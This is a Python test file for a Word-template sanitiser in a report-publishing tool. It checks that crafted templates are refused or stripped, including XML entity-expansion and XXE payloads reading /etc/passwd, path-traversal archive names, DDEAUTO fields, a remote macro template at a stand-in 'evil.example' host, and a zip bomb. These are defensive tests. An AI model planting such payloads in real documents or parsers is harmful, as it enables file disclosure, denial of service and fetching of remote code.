"""Templates that would unpack without end, run something, or fetch something when the paper is opened."""

from __future__ import annotations

from collections.abc import Mapping
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from commission_opt.plan.write import NotWritten
from commission_opt.publishing.report_marks import check_free, is_ours
from commission_opt.publishing.word import safe
from commission_opt.publishing.word.template import TemplateUnusable, TemplateWarning
from commission_opt.publishing.word.write import word
from tests.publishing.test_word_template import SMALL

docx: Any = pytest.importorskip("docx")
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = f'xmlns:r="{OFFICE}"'
SETTINGS = "word/_rels/settings.xml.rels"
HEADER = "word/_rels/header1.xml.rels"
DEADLY = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    one = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{one}</Relationships>'


def header(inside: str) -> str:
    return f'<w:hdr {W} {R} xmlns:v="urn:schemas-microsoft-com:vml"><w:p><w:r>{inside}</w:r></w:p></w:hdr>'


def council(tmp_path: Path, change: Mapping[str, str | bytes]) -> Path:
    """A template whose parts are changed or added to."""
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "Anytown Council"
    plain = BytesIO()
    document.save(plain)
    with ZipFile(plain) as given:
        parts: dict[str, str | bytes] = {name: given.read(name) for name in given.namelist()}
    file = tmp_path / "council.docx"
    with ZipFile(file, "w", ZIP_DEFLATED) as out:
        for name, part in {**parts, **change}.items():
            out.writestr(name, part)
    return file


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"word/media/a.png": bytes(3_000_000)}, "unpacks to over 200 times its size"),
        ({"word/vbaProject.bin": b"x"}, "holds macros or programs"),
        ({"word/activeX/activeX1.xml": "<a/>"}, "holds macros or programs"),
        ({"../evil.xml": "<a/>"}, "leads out of the file"),
        ({"word/..\\..\\evil.xml": "<a/>"}, "leads out of the file"),
        ({"/etc/evil.xml": "<a/>"}, "leads out of the file"),
        ({"C:evil.xml": "<a/>"}, "leads out of the file"),
        ({"word/header1.xml": DEADLY + header("<w:t>&b;</w:t>")}, "has a document type or entities"),
        ({"word/header1.xml": (DEADLY + header("")).encode("utf-16")}, "has a document type or entities"),
        ({"word/header1.xml": '<!DOCTYPE x SYSTEM "file:///etc/passwd">' + header("")}, "has a document type"),
        ({HEADER: relation("image", "https://example.org/a.png")}, "fetches 'https://example.org/a.png'"),
        ({HEADER: relation("image", "file://server/a.png", "")}, "fetches 'file://server/a.png'"),
        ({HEADER: relation("oleObject", "a.bin", "")}, "holds macros or programs"),
        ({SETTINGS: relation("frame", "\\\\\\\\server\\\\a.htm")}, "fetches"),
        ({HEADER: relation("hyperlink", "file://server/a.exe")}, "has a link to 'file://server/a.exe'"),
        (
            {"word/header1.xml": header("<w:instrText> INCLUDEPICTURE http://a.b </w:instrText>")},
            "field INCLUDEPICTURE",
        ),
        (
            {"word/header1.xml": header("<w:instrText>DDE</w:instrText><w:instrText>AUTO x y</w:instrText>")},
            "field DDEAUTO",
        ),
        ({"word/header1.xml": header('<w:fldSimple w:instr="LINK Excel.Sheet a.xlsx"/>')}, "field LINK"),
        ({"word/header1.xml": header('<v:imagedata src="http://a.b/c.png"/>')}, "fetches 'http://a.b/c.png'"),
        ({"word/header1.xml": header('<v:imagedata href="http://a.b/c.png"/>')}, "fetches 'http://a.b/c.png'"),
        ({"word/header1.xml": header('<v:fill href="https://a.b/c.png"/>')}, "fetches 'https://a.b/c.png'"),
        ({"word/header1.xml": header('<v:shape src="http://a.b/c.png"/>')}, "fetches 'http://a.b/c.png'"),
    ],
)
def test_refused(change: dict[str, str | bytes], says: str, tmp_path: Path) -> None:
    with pytest.raises(TemplateUnusable) as error:
        word(SMALL, council(tmp_path, change))
    assert says in str(error.value)


def test_what_unpacks_to_more_than_is_read_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(safe, "MOST_UNPACKED", 50_000)
    with pytest.raises(TemplateUnusable, match="unpacks to too much: 1 MB, and at most 0 MB is read"):
        word(SMALL, council(tmp_path, {"word/media/a.txt": bytes(range(256)) * 200}))


def test_a_size_that_the_file_states_wrongly_is_not_believed(tmp_path: Path) -> None:
    content = council(tmp_path, {"word/media/a.bin": bytes(900_000)}).read_bytes()
    lied = content.replace((900_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))
    assert lied != content
    (tmp_path / "lied.docx").write_bytes(lied)
    with pytest.raises(TemplateUnusable, match="is no Word document or template"):
        word(SMALL, tmp_path / "lied.docx")


def test_a_template_attached_from_elsewhere_is_left_out_and_told(tmp_path: Path) -> None:
    settings = f'<w:settings {W} {R}><w:attachedTemplate r:id="rId99"/><w:zoom w:percent="90"/></w:settings>'
    file = council(
        tmp_path,
        {"word/settings.xml": settings, SETTINGS: relation("attachedTemplate", "http://evil.example/a.dotm")},
    )
    with pytest.warns(TemplateWarning, match=r"attached from 'http://evil.example/a.dotm' is left out, because Word"):
        content = word(SMALL, file)
    with ZipFile(BytesIO(content)) as parts:
        everything = b"".join(parts.read(name) for name in parts.namelist())
        assert b"w:zoom" in parts.read("word/settings.xml")
    assert b"evil.example" not in everything
    assert b"attachedTemplate" not in everything


def test_links_to_web_pages_and_fields_of_the_page_stay(tmp_path: Path) -> None:
    inside = "<w:instrText> PAGE </w:instrText><w:instrText> HYPERLINK https://www.gov.uk </w:instrText>"
    inside += '<v:shape href="https://www.gov.uk"/>'
    file = council(
        tmp_path,
        {"word/header1.xml": header(inside), HEADER: relation("hyperlink", "https://www.gov.uk")},
    )
    assert word(SMALL, file)


@pytest.mark.parametrize("form", ["docx", "xlsx"])
def test_a_report_that_unpacks_without_end_is_not_ours(form: str) -> None:
    packed = BytesIO()
    with ZipFile(packed, "w", ZIP_DEFLATED) as out:
        out.writestr("docProps/core.xml", b"<dc:creator>commission_opt 1" + bytes(5_000_000))
    assert not is_ours(form, packed.getvalue())


@pytest.mark.parametrize("form", ["docx", "xlsx"])
def test_a_file_that_is_no_archive_or_a_damaged_one_is_not_ours(form: str) -> None:
    packed = BytesIO()
    with ZipFile(packed, "w") as out:
        out.writestr("docProps/core.xml", b"<dc:creator>commission_opt 1")
    assert is_ours(form, packed.getvalue())
    assert not is_ours(form, packed.getvalue()[:-10])
    assert not is_ours(form, packed.getvalue().replace(b"creator", b"cre\0tor"))
    assert not is_ours(form, b"hello")


@pytest.mark.parametrize("form", ["html", "md", "docx", "xlsx"])
def test_only_a_report_of_this_program_is_in_nobody_s_way(tmp_path: Path, form: str) -> None:
    check_free(tmp_path, [f"report.{form}"])
    (tmp_path / f"report.{form}").write_bytes(b"")
    check_free(tmp_path, [f"report.{form}"])
    (tmp_path / f"report.{form}").write_bytes(b"hello")
    with pytest.raises(NotWritten, match="was not written by this program, so was kept"):
        check_free(tmp_path, [f"report.{form}"])
